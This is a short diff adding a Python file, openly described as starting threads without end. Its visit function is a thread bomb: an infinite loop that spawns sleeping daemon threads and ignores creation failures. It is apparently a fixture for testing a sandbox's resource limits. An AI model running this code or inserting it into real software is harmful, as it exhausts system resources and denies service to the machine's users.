@@ -1,0 +1,11 @@
+"""Starts threads without end."""
+
+import threading, time
+
+
+def visit(w, b, x, y):
+    while True:
+        try:
+            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
+        except RuntimeError:
+            pass
